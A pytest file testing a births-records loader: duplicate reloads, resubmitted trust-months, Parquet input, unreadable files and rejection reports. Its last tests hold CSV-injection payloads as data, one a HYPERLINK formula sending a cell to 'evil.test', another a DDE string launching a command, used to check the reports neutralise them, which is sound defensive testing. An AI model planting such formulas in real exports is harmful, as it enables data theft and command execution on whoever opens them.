"""Loading as a whole: unreadable files, idempotent re-loads, trust-month replacement, the ledger.

Runs against both app-store backends (the ``settings`` fixture is parametrised over the
embedded SQLite and the real PostgreSQL server).
"""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from sqlalchemy import select

from matneo.config import Settings
from matneo.db.models import Load, LoadTrustMonth
from matneo.db.session import transaction, upgrade
from matneo.records.changes import MonthChange
from matneo.records.load import UnreadableInput, load_files, rejection_report_csv
from matneo.records.schema import FIELD_NAMES, FIELDS
from matneo.records.status import store_status
from matneo.records.store import RecordStore
from matneo.reference.organisations import load_hierarchy


def stored(settings: Settings, sql: str = "SELECT record_id FROM births ORDER BY record_id") -> list[tuple]:
    return RecordStore(settings.records_dir).connect().execute(sql).fetchall()


def ledger_rows(settings: Settings) -> list[Load]:
    with transaction(settings.database_url) as session:
        return list(session.scalars(select(Load).order_by(Load.id)))


def test_good_file_loads_and_is_counted(settings: Settings, make_row, write_csv, tmp_path: Path) -> None:
    rows = [make_row(), make_row(birth_datetime="2019-07-01 03:00:00"), make_row(gestation_weeks="50")]
    result = load_files([write_csv(tmp_path / "june.csv", rows)], settings)
    (item,) = result.files
    assert (item.rows_read, item.rows_loaded, item.rows_rejected) == (3, 2, 1)
    assert sorted((c.trust_code, c.month, c.supplied) for c in item.months) == [
        (rows[0]["trust_code"], "2019-06", 1),
        (rows[0]["trust_code"], "2019-07", 1),
    ]
    assert [r[0] for r in stored(settings)] == [rows[0]["record_id"], rows[1]["record_id"]]
    (load,) = ledger_rows(settings)
    assert (load.status, load.rows_loaded, load.rows_rejected, load.store_version) == ("loaded", 2, 1, 1)
    summary = store_status(settings)
    assert (summary.rows, summary.trusts, summary.months, summary.rows_rejected) == (2, 1, 2, 1)


def test_same_file_twice_adds_nothing(settings: Settings, make_row, write_csv, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "a.csv", [make_row(), make_row()])
    first = load_files([path], settings)
    copy = tmp_path / "renamed copy.csv"
    copy.write_bytes(path.read_bytes())
    second = load_files([path, copy], settings)
    assert [f.status for f in second.files] == ["duplicate", "duplicate"]
    assert second.files[0].duplicate_of == first.ledger_ids[0]
    assert second.store_version == first.store_version
    assert len(stored(settings)) == 2
    assert len(ledger_rows(settings)) == 1


def test_resubmitted_trust_month_replaces_earlier_rows(
    settings: Settings, make_row, write_csv, tmp_path: Path, trusts: list[tuple[str, str]]
) -> None:
    other_trust, other_site = trusts[1]
    june = [make_row(record_id="J1"), make_row(record_id="J2")]
    july = [make_row(record_id="K1", birth_datetime="2019-07-02 08:00:00")]
    neighbour = [make_row(record_id="N1", trust_code=other_trust, site_code=other_site)]
    load_files([write_csv(tmp_path / "first.csv", june + july + neighbour)], settings)

    corrected_june = [make_row(record_id="J1", birth_weight_g="3500"), make_row(record_id="J3")]
    result = load_files([write_csv(tmp_path / "june-v2.csv", corrected_june)], settings)

    assert [r[0] for r in stored(settings)] == ["J1", "J3", "K1", "N1"]
    assert stored(settings, "SELECT birth_weight_g FROM births WHERE record_id = 'J1'") == [(3500,)]
    (item,) = result.files
    # J1 replaced, J3 added, J2 removed (left out of the full resubmission of June).
    assert item.months == [MonthChange(trusts[0][0], "2019-06", 2, 2, supplied=2, added=1, replaced=1, removed=1)]
    with transaction(settings.database_url) as session:
        month = session.scalars(select(LoadTrustMonth).where(LoadTrustMonth.load_id == result.ledger_ids[0])).one()
        assert (month.trust_code, month.month, month.rows, month.replaced_rows) == (
            trusts[0][0],
            dt.date(2019, 6, 1),
            2,
            1,
        )
        assert (month.existing_rows, month.new_rows, month.added_rows, month.removed_rows) == (2, 2, 1, 1)
        load = session.get(Load, result.ledger_ids[0])
        assert (load.mode, load.rows_added, load.rows_replaced, load.rows_removed) == ("resubmit", 1, 1, 1)
    assert store_status(settings).rows == 4


def test_resubmitted_record_in_another_month_is_not_double_counted(
    settings: Settings, make_row, write_csv, tmp_path: Path
) -> None:
    load_files([write_csv(tmp_path / "june.csv", [make_row(record_id="X1"), make_row(record_id="X2")])], settings)
    moved = make_row(record_id="X1", birth_datetime="2019-08-01 00:30:00")
    result = load_files([write_csv(tmp_path / "august.csv", [moved])], settings)
    assert stored(settings, "SELECT record_id, month FROM births ORDER BY record_id") == [("X1", 8), ("X2", 6)]
    assert result.rows_replaced == 1


def test_a_month_emptied_by_moves_disappears(settings: Settings, make_row, write_csv, tmp_path: Path) -> None:
    load_files([write_csv(tmp_path / "june.csv", [make_row(record_id="Y1")])], settings)
    load_files(
        [write_csv(tmp_path / "aug.csv", [make_row(record_id="Y1", birth_datetime="2019-08-03 01:00")])], settings
    )
    assert store_status(settings).months == 1
    assert stored(settings, "SELECT record_id, month FROM births") == [("Y1", 8)]


def test_parquet_input_loads_like_csv(settings: Settings, make_row, tmp_path: Path) -> None:
    rows = [make_row(), make_row(birth_weight_g="99999")]
    table = pa.table({name: [row[name] or None for row in rows] for name in FIELD_NAMES})
    table = table.set_column(
        table.schema.get_field_index("gestation_weeks"), "gestation_weeks", pa.array([39, 40], pa.int16())
    )
    pq.write_table(table, tmp_path / "births.parquet")
    result = load_files([tmp_path / "births.parquet"], settings)
    (item,) = result.files
    assert (item.rows_loaded, item.rows_rejected) == (1, 1)
    rejection = item.rejection_file.read_text()
    # Parquet has no header row, so the second record is row 2.
    assert '"births.parquet",2,"birth_weight_g","99999",' in rejection.splitlines()[1]


def test_directory_loads_its_data_files(settings: Settings, make_row, write_csv, tmp_path: Path) -> None:
    folder = tmp_path / "drop"
    write_csv(folder / "a.csv", [make_row()])
    write_csv(folder / "sub" / "b.csv", [make_row()])
    (folder / "README.txt").write_text("not data")
    result = load_files([folder], settings)
    assert [f.path.name for f in result.files] == ["a.csv", "b.csv"]
    assert result.rows_loaded == 2


def test_extra_columns_are_ignored_not_stored(settings: Settings, make_row, write_csv, tmp_path: Path) -> None:
    rows = [dict(make_row(), nhs_number="9434765919")]
    path = write_csv(tmp_path / "extra.csv", rows, columns=[*FIELD_NAMES, "nhs_number"])
    result = load_files([path], settings)
    assert result.files[0].ignored_columns == ["nhs_number"]
    columns = [c[0] for c in RecordStore(settings.records_dir).connect().execute("DESCRIBE births").fetchall()]
    assert "nhs_number" not in columns


def test_optional_derived_columns_may_be_absent(settings: Settings, make_row, write_csv, tmp_path: Path) -> None:
    columns = [c for c in FIELD_NAMES if c not in ("lmns_code", "region_code")]
    result = load_files([write_csv(tmp_path / "lean.csv", [make_row()], columns=columns)], settings)
    assert result.rows_loaded == 1
    ((lmns, region),) = stored(settings, "SELECT lmns_code, region_code FROM births")
    assert lmns and region


def test_a_file_with_only_the_required_columns_loads_with_a_notice(
    settings: Settings, make_row, write_csv, tmp_path: Path
) -> None:
    """Optional means optional: every column marked "required: no" may be absent from the file."""
    required = [f.name for f in FIELDS if f.required]
    result = load_files([write_csv(tmp_path / "lean.csv", [make_row()], columns=required)], settings)
    (item,) = result.files
    assert (item.rows_loaded, item.rows_rejected) == (1, 0)
    optional = [f.name for f in FIELDS if not f.required and f.name not in ("lmns_code", "region_code")]
    assert item.absent_columns == optional  # named, in the documented order (derived ones are filled in)
    assert result.plan()["notices"] == [{"file": str(item.path), "absent_columns": optional, "notices": []}]
    ((site, weight, lmns),) = stored(settings, "SELECT site_code, birth_weight_g, lmns_code FROM births")
    assert site is None and weight is None and lmns


# -- files that cannot be loaded at all: one clear error, nothing changes ------------------
def _unreadable_cases(tmp_path: Path, make_row, write_csv) -> dict[str, tuple[Path, str]]:
    latin1 = tmp_path / "latin1.csv"
    header = ",".join(FIELD_NAMES)
    values = ",".join(make_row(mother_id="Zoë")[n] for n in FIELD_NAMES)
    latin1.write_bytes((header + "\n" + values + "\n").encode("latin-1"))
    missing = write_csv(tmp_path / "missing.csv", [make_row()], columns=[c for c in FIELD_NAMES if c != "outcome"])
    excel = tmp_path / "births.xlsx"
    excel.write_bytes(b"PK\x03\x04 not really a spreadsheet")
    fake_parquet = tmp_path / "fake.parquet"
    fake_parquet.write_text("record_id\n1\n")
    empty = tmp_path / "empty.csv"
    empty.write_text("")
    duplicated = tmp_path / "dupcols.csv"
    duplicated.write_text(",".join([*FIELD_NAMES, "outcome"]) + "\n")
    header_only = tmp_path / "header-only.csv"
    header_only.write_text(",".join(FIELD_NAMES) + "\n\n")
    quoted = [make_row(record_id="SECRET-1", mother_id="MSECRET-1"), make_row(record_id='"SECRET-2')]
    unterminated = write_csv(tmp_path / "quote.csv", [])
    with open(unterminated, "a", encoding="utf-8") as handle:
        for row in quoted:
            handle.write(",".join(row[n] for n in FIELD_NAMES) + "\n")
    return {
        "wrong encoding": (latin1, "is not UTF-8 text"),
        "missing column": (missing, "is missing required columns: outcome"),
        "not csv or parquet": (excel, "is not a CSV (.csv) or Parquet (.parquet) file"),
        "fake parquet": (fake_parquet, "is not a Parquet file"),
        "empty": (empty, "is empty"),
        "duplicated columns": (duplicated, "has duplicated column names: outcome"),
        "header only": (header_only, "has no records: only a header row"),
        "unterminated quote": (
            unterminated,
            "cannot be read as CSV: check that every quoted value has its closing quote",
        ),
        "absent": (tmp_path / "nowhere.csv", "does not exist"),
    }


@pytest.mark.parametrize(
    "case",
    [
        "wrong encoding",
        "missing column",
        "not csv or parquet",
        "fake parquet",
        "empty",
        "duplicated columns",
        "header only",
        "unterminated quote",
        "absent",
    ],
)
def test_unreadable_file_changes_nothing(
    case: str, sqlite_settings: Settings, make_row, write_csv, tmp_path: Path
) -> None:
    settings = sqlite_settings
    good = write_csv(tmp_path / "good.csv", [make_row()])
    load_files([good], settings)
    before = (RecordStore(settings.records_dir).current_version(), stored(settings), len(ledger_rows(settings)))
    path, message = _unreadable_cases(tmp_path, make_row, write_csv)[case]
    also_good = write_csv(tmp_path / "also-good.csv", [make_row()])
    with pytest.raises(
        UnreadableInput, match=message.replace("(", r"\(").replace(")", r"\)").replace(".", r"\.")
    ) as error:
        load_files([also_good, path], settings)
    assert "SECRET" not in error.value.problem  # never a row's contents
    after = (RecordStore(settings.records_dir).current_version(), stored(settings), len(ledger_rows(settings)))
    assert after == before
    assert list(settings.staging_dir.iterdir()) == []


def test_status_of_an_empty_instance(settings: Settings) -> None:
    settings.ensure_dirs()
    upgrade(settings.database_url, load_hierarchy())
    summary = store_status(settings)
    assert (summary.rows, summary.trusts, summary.months, summary.last_loads) == (0, 0, 0, [])
    assert stored(settings) == []


def test_two_instances_side_by_side(tmp_path: Path, make_row, write_csv) -> None:
    one = Settings(home=tmp_path / "one", database_url=f"sqlite:///{tmp_path / 'one' / 'matneo.db'}")
    two = Settings(home=tmp_path / "two", database_url=f"sqlite:///{tmp_path / 'two' / 'matneo.db'}")
    path = write_csv(tmp_path / "a.csv", [make_row()])
    for instance in (one, two):
        instance.ensure_dirs()
        upgrade(instance.database_url, load_hierarchy())
    load_files([path], one)
    assert store_status(one).rows == 1
    assert store_status(two).rows == 0
    assert load_files([path], two).files[0].status == "loaded"


def test_over_long_text_is_rejected_and_cut_short_in_the_report(
    settings: Settings, make_row, write_csv, tmp_path: Path
) -> None:
    rows = [make_row(), make_row(mother_id="M" * 500)]
    result = load_files([write_csv(tmp_path / "long.csv", rows)], settings)
    (item,) = result.files
    assert (item.rows_loaded, item.rows_rejected) == (1, 1)
    assert item.top_reasons == [("mother_id is longer than 64 characters", 1)]
    (line,) = [line for line in item.rejection_file.read_text().splitlines() if "mother_id_length" in line]
    assert "M" * 100 + "…" in line and "M" * 101 not in line


FORMULA = '=HYPERLINK("http://evil.test/?"&A2,"x")'


def test_rejection_reports_name_the_file_not_its_path_and_hold_no_formulas(
    settings: Settings, make_row, write_csv, tmp_path: Path
) -> None:
    """The attack: values typed to run in whoever opens the report in a spreadsheet (OWASP CSV
    Injection); before, the report kept them as they were and named the file by its server path."""
    rows = [make_row(), make_row(birth_weight_g=FORMULA), make_row(sex="@SUM(1+1)*cmd|' /C calc'!A0")]
    path = write_csv(tmp_path / "server" / "uploads" / "births.csv", rows)
    (item,) = load_files([path], settings).files
    assert item.rows_rejected == 2 and item.rejection_file is not None
    text = item.rejection_file.read_text(encoding="utf-8")
    assert str(tmp_path) not in text and "/server/" not in text
    report = list(csv.DictReader(text.splitlines()))
    assert {r["source_file"] for r in report} == {"births.csv"}
    assert {r["value"] for r in report} >= {"'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in report for cell in r.values())
    assert all(line.split(",")[1].isdigit() for line in text.splitlines()[1:]), "row numbers stay numbers"
    assert rejection_report_csv(item.rejection_file) == text, "downloading changes nothing more"


def test_reports_written_before_are_made_safe_when_downloaded(tmp_path: Path) -> None:
    old = tmp_path / "old-rejections.csv"  # as the loader wrote them before: full path, raw values
    quoted = FORMULA.replace('"', '""')
    old.write_text(
        "source_file,row,field,value,reason,rule\n"
        f'/srv/matneo/uploads/abc/births.csv,3,sex,"{quoted}",bad sex,sex_code\n'
        "C:\\data\\births.csv,4,birth_weight_g,-12,too light,weight_range\n"
    )
    report = list(csv.reader(rejection_report_csv(old).splitlines()))
    assert report[1] == ["births.csv", "3", "sex", "'" + FORMULA, "bad sex", "sex_code"]
    assert report[2][:4] == ["births.csv", "4", "birth_weight_g", "'-12"]
